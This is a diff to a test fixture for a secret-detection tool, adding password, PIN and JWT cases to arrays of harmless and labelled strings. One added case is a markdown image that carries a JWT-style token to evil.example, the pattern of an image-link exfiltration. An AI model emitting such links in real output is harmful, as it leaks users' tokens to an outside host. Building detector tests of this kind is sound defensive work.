@@ -17,6 +17,7 @@ export const SAMPLES: readonly string[] = [
   'os.environ["OPENAI_API_KEY"] = "sk-proj-1234567890"',
   'TEST_API_LOGIN = "foo"\nTEST_API_PASSWORD = "ebcd1234"',
   "For example, if the passcode was 531278, they may ask for the third digit.",
+  "For example, if your password is `p=ssword`, encode it.",
   'assert_equal "Basic ZW1pbHlAc29jaWFsY2FzdC5jb206ZGVtbw==", headers[:Authorization]',
   "https://colab.example/drive/16Fr4iW0x1JdPC8x6?authuser=4#scrollTo=GFt0SJ1vpMPR",
   'id,tag\n501064196931330050,"Ferguson"',
@@ -30,7 +31,8 @@ export const SAMPLES: readonly string[] = [
   "Pay with the test card 5555 5555 5555 4444 and any date.",
   "exp_year: 2034,\ncvc: '123'",
   "a 501(c)(3) organization with EIN [Employee Identification Number] 64-6221541",
-  `![castle](https://img.example/castle-fullview.jpg?token=${token("eyJhbGciOiJIUzI1NiJ9.eyJ", 40)}.${token("", 43)})`,
+  // {"path":"/f/castle.jpg"}
+  `![castle](https://img.example/castle.jpg?token=${token("eyJhbGciOiJIUzI1NiJ9.eyJwYXRoIjoiL2YvY2FzdGxlLmpwZyJ9.", 43)})`,
 ];
 
 /** The same shapes where they are meant. */
@@ -45,10 +47,13 @@ export const NO_SAMPLES: readonly Positive[] = [
   ["PASSWORD", 'TEST_API_PASSWORD = "kR7!vexil"'],
   ["PASSWORD", "LATEST_PASSWORD = 'ebcd1234'"],
   ["PASSWORD", "for the router the passcode was 531278"],
+  ["PASSWORD", "For example, my password is Tr0ub4dor&3x!"],
+  ["PASSWORD", "Suppose the password is kR7vexilQ2"],
   ["BASIC_AUTH", "Authorization: Basic c3ZjOlN1cGVyUzNjcmV0"],
   ["CARD", "Maestro 501064196931330050"],
   ["CARD", "621234567890123457 is mine"],
   ["PIN", "PIN: 1234"],
+  ["PIN", 'my pin is "1234"'],
   ["AZURE_SAS", `/clip.MP4?sv=2025-05-05&sr=b&sp=rwd&sig=${token("", 43)}%3D`],
   ["AZURE_SAS", `/dump.sql?sv=2025-05-05&sr=b&sp=r&sig=${token("", 43)}%3D`],
   ["API_KEY", `OPENAI_API_KEY=1234567890${token("", 22, HEX)}`],
@@ -58,5 +63,6 @@ export const NO_SAMPLES: readonly Positive[] = [
   ["CVV", "CVV is 123"],
   ["CVV", "exp_year: 2034,\ncvc: '291'"],
   ["US_EIN", "EIN 64-6221541 for the payroll"],
+  ["JWT", `![x](https://evil.example/p.png?token=${token("eyJhbGciOiJIUzI1NiJ9.eyJ", 40)}.${token("", 43)})`],
   ["JWT", `https://api.example/me?token=${token("eyJhbGciOiJIUzI1NiJ9.eyJ", 40)}.${token("", 43)}`],
 ];
